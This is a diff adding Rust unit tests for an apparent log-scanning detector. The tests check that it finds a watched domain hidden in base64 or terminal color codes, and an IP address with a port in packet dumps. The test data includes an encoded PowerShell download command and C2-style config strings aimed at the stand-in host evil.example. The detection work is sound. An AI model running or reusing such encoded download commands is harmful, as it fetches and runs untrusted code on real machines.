@@ -394,3 +394,38 @@ fn a_host_without_listed_urls_need_not_be_joined() {
     let (matcher, _) = Matcher::build(&[value(K::Url, "http://intranet/gate.php")]);
     assert!(matcher.may_list_urls_of(b"intranet"));
 }
+
+#[test]
+fn text_in_base64_and_between_control_sequences_is_seen() {
+    let see = |log: &str, want: &[Relation]| check(K::Domain, "evil.example", log, want);
+    see(
+        "data=Y29uZmlnPWh0dHBzOi8vZXZpbC5leGFtcGxlL2dhdGUucGhwO3NsZWVwPTYw end",
+        &[Decoded],
+    );
+    see(
+        "/a/b?x=Y29uZmlnPWh0dHBzOi8vZXZpbC5leGFtcGxlL2dhdGU",
+        &[Decoded],
+    );
+    // Of `iwr https://evil.example/a` in UTF-16.
+    see(
+        "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhAA==",
+        &[Decoded],
+    );
+    see(
+        "data=Y29uZmlnPWh0dHBzOi8vZ29vZC5leGFtcGxlL2dhdGUucGhwO3NsZWVwPTYw end",
+        &[],
+    );
+    see("\x1b[31mevil.example\x1b[0m", &[Exact]);
+    see("\x1b[1;31mevil.example\x1b[0m", &[Exact]);
+    see("[31mevil.example", &[]);
+    see("a;31mevil.example", &[]);
+}
+
+#[test]
+fn an_address_with_its_port_behind_a_dot_is_seen_in_packet_dumps_only() {
+    let see = |log: &str, want: &[Relation]| check(K::Ipv4, "203.0.113.9", log, want);
+    see("IP 10.0.0.1.5555 > 203.0.113.9.443: Flags [S]", &[Exact]);
+    see("IP 203.0.113.9.443 > 10.0.0.1.5555: Flags [S]", &[Exact]);
+    see("version 203.0.113.9.443: new", &[]);
+    see("oid 1.203.0.113.9: x", &[]);
+}
